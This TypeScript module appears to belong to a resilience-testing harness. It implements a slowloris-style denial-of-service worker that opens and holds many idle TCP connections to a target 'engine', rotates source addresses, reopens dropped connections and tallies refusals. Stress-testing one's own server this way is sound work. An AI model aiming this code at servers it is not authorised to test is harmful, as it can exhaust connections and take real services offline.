/**
 * The inside of a silent-socket worker: opens plain TCP connections to the engine, sends nothing,
 * holds them, and opens a new one whenever the engine closes one, until told to stop.
 */
import { connect, type Socket } from 'node:net';
import { pause } from './attackDeadline.js';
import { AddressRotation, TARGET_HOST } from './attackOptions.js';
import { errorCode, type AttackTally } from './attackTally.js';

/** Connects in progress at once: more only overflow the engine's SYN backlog and wait on retries. */
const MAX_PENDING_CONNECTS = 256;
/** A connect that neither succeeds nor fails within this long is abandoned and retried. */
const CONNECT_TIMEOUT_MS = 10_000;
/** Waits this long after a failed connect, so a dead or full engine is not spun against. */
const CONNECT_ERROR_BACKOFF_MS = 50;

/** What one worker holds. */
export interface HeldSocketsOptions {
  readonly port: number;
  readonly count: number;
  readonly sourceAddresses: readonly string[];
}

/** Counts down free connect slots; `acquire` waits for one. */
class ConnectSlots {
  #free: number;
  readonly #waiting: (() => void)[] = [];

  constructor(size: number) {
    this.#free = size;
  }

  async acquire(): Promise<void> {
    if (this.#free > 0) {
      this.#free--;
      return;
    }
    await new Promise<void>((resolve) => this.#waiting.push(resolve));
  }

  release(): void {
    const next = this.#waiting.shift();
    if (next === undefined) this.#free++;
    else next();
  }
}

/** Opens, holds and replaces `options.count` silent connections until `signal` aborts; counts into `tally`. */
export async function holdSilentSockets(options: HeldSocketsOptions, tally: AttackTally, signal: AbortSignal): Promise<void> {
  const sources = new AddressRotation(options.sourceAddresses);
  const slots = new ConnectSlots(MAX_PENDING_CONNECTS);
  const live = new Set<Socket>();
  signal.addEventListener('abort', () => {
    for (const socket of live) socket.destroy();
  }, { once: true });

  /** One connection from open to close; resolves true if it connected. */
  const holdOne = async (): Promise<boolean> => {
    await slots.acquire();
    if (signal.aborted) {
      slots.release();
      return false;
    }
    tally.attempted();
    return new Promise((resolve) => {
      const socket = connect({ host: TARGET_HOST, port: options.port, localAddress: sources.next() });
      live.add(socket);
      let connected = false;
      let slotHeld = true;
      const releaseSlot = (): void => {
        if (slotHeld) slots.release();
        slotHeld = false;
      };
      socket.setTimeout(CONNECT_TIMEOUT_MS, () => {
        if (!connected) socket.destroy(Object.assign(new Error('connect timeout'), { code: 'CONNECT_TIMEOUT' }));
      });
      socket.once('connect', () => {
        connected = true;
        socket.setTimeout(0);
        releaseSlot();
        tally.opened();
      });
      // An engine that gives up on a silent socket may say why first (`408 Request Timeout`).
      socket.once('data', (chunk: Buffer) => {
        const status = /^HTTP\/1\.[01] (\d{3})/.exec(chunk.toString('latin1', 0, 16))?.[1];
        if (status !== undefined) tally.refused(Number(status));
      });
      socket.on('error', (error) => {
        if (!connected && !signal.aborted) tally.failed(errorCode(error));
      });
      socket.once('close', () => {
        live.delete(socket);
        releaseSlot();
        if (connected) tally.ended(signal.aborted ? undefined : 'tcp');
        resolve(connected);
      });
    });
  };

  const slot = async (): Promise<void> => {
    while (!signal.aborted) {
      if (!(await holdOne())) await pause(CONNECT_ERROR_BACKOFF_MS, signal);
    }
  };
  await Promise.all(Array.from({ length: options.count }, slot));
}
